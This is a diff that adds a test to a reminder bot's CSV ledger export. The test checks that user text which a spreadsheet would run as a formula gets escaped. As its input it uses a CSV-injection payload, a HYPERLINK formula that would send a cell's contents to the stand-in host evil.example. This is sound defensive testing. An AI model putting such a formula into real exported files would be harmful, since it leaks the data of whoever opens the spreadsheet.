@@ -5,6 +5,7 @@ import { cli } from '../../src/cli.js';
 import { People } from '../../src/bot/people.js';
 import { openStore } from '../../src/bot/store.js';
 import { Units } from '../../src/bot/units.js';
+import { toCsv } from '../../src/flows/reminders/ledger.js';
 import { ledgerCsv } from '../../src/flows/reminders/report.js';
 import { tempDir } from '../helpers/app.js';
 import { dataDir, reminderApp, vn } from './helpers.js';
@@ -73,5 +74,20 @@ describe('thidua remind ledger', () => {
     const hctp = rows.find((r) => r.includes(',cuc-hctp,'))!;
     expect(hctp).toContain('chưa hoàn thành');
     expect(hctp).toContain(',2,2026-12-14 08:00,');
+  });
+
+  it('neutralises user text a spreadsheet would run as a formula (= + - @ tab CR at the start of a cell)', async () => {
+    const t = await reminderApp();
+    const a = await t.join('a', 'cuc-btp');
+    const person = (await t.app.services.people.get('console', 'a'))!;
+    await t.app.services.people.save({ ...person, name: '=HYPERLINK("http://evil.example/?d="&A1,"Xem")' });
+    await t.tickAt('2026-12-08 08:00');
+    await a.press('rem:done:t-ack');
+    const text = (await ledgerCsv(t.reminders, 2026)).csv.toString('utf8');
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"") (console:a)",`);
+    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
+
+    const cells = toCsv(['a'], [['+1'], ['-1+2'], ['@SUM(A1)'], ['\tx'], ['\rx'], [-5], ['ok = fine']]).toString('utf8').slice(1).split('\r\n');
+    expect(cells.slice(1, -1)).toEqual([`'+1`, `'-1+2`, `'@SUM(A1)`, `'\tx`, `"'\rx"`, '-5', 'ok = fine']);
   });
 });
